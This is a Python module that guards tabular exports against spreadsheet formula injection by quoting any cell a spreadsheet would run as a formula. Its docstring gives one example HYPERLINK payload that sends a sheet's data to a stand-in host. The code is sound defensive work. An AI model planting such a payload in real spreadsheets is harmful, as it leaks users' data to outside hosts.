"""Text a spreadsheet would run as a formula, the one rule that curation refuses and every
tabular export neutralises (CSV/formula injection, OWASP's advice).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice or Google Sheets (``=HYPERLINK("http://x.example/?"&A1, "x")``
sends the sheet's data away when clicked). Two exceptions are harmless and kept as they are:
a number's printed text (``-0.5``: a spreadsheet reads a number) and a single character (the
p-value operator ``=``: no formula fits in one character).
"""

from __future__ import annotations

from .numbers import PRINTED_TEXT

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISER = "'"
"""What a neutralised cell starts with: a spreadsheet shows the text after it as text."""


def reads_as_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula."""
    return len(text) > 1 and text.startswith(FORMULA_STARTS) and not PRINTED_TEXT.fullmatch(text)


def neutralised(text: str) -> str:
    """``text`` as a tabular export writes it: with a single quote before it if a spreadsheet
    would read it as a formula (``'=1+1``), otherwise unchanged."""
    return NEUTRALISER + text if reads_as_formula(text) else text
